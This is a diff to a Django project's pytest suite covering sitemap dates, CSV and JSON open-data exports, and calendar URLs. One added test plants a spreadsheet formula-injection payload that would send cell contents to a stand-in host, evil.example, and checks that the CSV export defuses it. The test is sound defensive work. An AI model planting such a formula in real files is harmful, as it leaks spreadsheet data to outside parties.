@@ -14,13 +14,21 @@ import xml.etree.ElementTree as ET
 import pytest
 from django.core.files.storage import default_storage
 from django.db import connection
+from django.db.models import F
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone, translation
 from icalendar import Calendar
 
 from international.exports import DATASETS
-from international.models import Event, Organization, Participation, Programme, TwinCity
+from international.models import (
+    ContentVersion,
+    Event,
+    Organization,
+    Participation,
+    Programme,
+    TwinCity,
+)
 from tests.factories import (
     EventFactory,
     OrganizationFactory,
@@ -232,11 +240,23 @@ def test_the_sitemap_lists_the_section_map_and_open_data_pages_and_the_statement
     assert "http://testserver/en/accessibility/" in entries
 
 
-def test_the_sitemap_dates_the_section_by_its_newest_published_change(client, records):
+def test_the_sitemap_dates_the_section_pages_by_the_last_change_unpublishing_included(
+    client, records
+):
+    long_ago = datetime.datetime(2024, 3, 1, 12, tzinfo=datetime.UTC)
+    ContentVersion.objects.update(version=F("version") + 1, changed_at=long_ago)
+    section = "http://testserver/bg/mezhdunarodna-deynost/"
+    assert sitemap_entries(client)[section][0] == "2024-03-01"
+
+    organization = Organization.objects.get(slug_en="strasbourg-club")
+    organization.is_published = False
+    organization.save()
+
+    today = timezone.localdate().isoformat()
     entries = sitemap_entries(client)
-    newest = max(record.updated_at for kind in published_records().values() for record in kind)
-    lastmod, _alternates = entries["http://testserver/bg/mezhdunarodna-deynost/"]
-    assert lastmod == timezone.localtime(newest).date().isoformat()
+    assert entries[section][0] == today
+    organisations = f"http://testserver{url('international:organization_list', 'en')}"
+    assert entries[organisations][0] == today
 
 
 def test_the_sitemap_never_lists_an_unpublished_record(client, records):
@@ -819,3 +839,36 @@ def test_the_documented_schema_names_every_field_and_the_licence():
         section = document.split(f"### `{dataset.key}`", 1)[1].split("\n### ", 1)[0]
         documented = re.findall(r"^\| `([a-z_]+)` \|", section, re.MULTILINE)
         assert documented == [column.name for column in dataset.columns], dataset.key
+
+
+def test_a_csv_cell_never_starts_a_spreadsheet_formula(client, records):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    OrganizationFactory(name_bg=formula, name_en="+SUM(1,2)", description_en="<p>-1</p>")
+    dataset = next(dataset for dataset in DATASETS if dataset.key == "organizations")
+
+    row = next(row for row in csv_rows(client, dataset) if row["name_bg"].endswith('"Click")'))
+
+    assert row["name_bg"] == "'" + formula
+    assert row["name_en"] == "'+SUM(1,2)"
+    # The JSON keeps the text exactly as entered.
+    exported = open_data_json(client)["organizations"]
+    assert formula in [record["name_bg"] for record in exported]
+
+
+def test_a_negative_number_in_a_csv_file_stays_a_number(client, records):
+    TwinCityFactory(name_en="Lisbon", latitude="38.72", longitude="-9.14")
+    dataset = next(dataset for dataset in DATASETS if dataset.key == "twin_cities")
+
+    row = next(row for row in csv_rows(client, dataset) if row["name_en"] == "Lisbon")
+
+    assert row["longitude"] == "-9.14"
+
+
+def test_the_calendar_names_its_own_address_whatever_query_came_first(client, records):
+    calendar_url = url("international:events_calendar", "en")
+    get(client, calendar_url + "?utm_source=somewhere-else")
+
+    content = body(get(client, calendar_url)).decode()
+
+    assert "somewhere-else" not in content
+    assert f"SOURCE;VALUE=URI:http://testserver{calendar_url}" in content
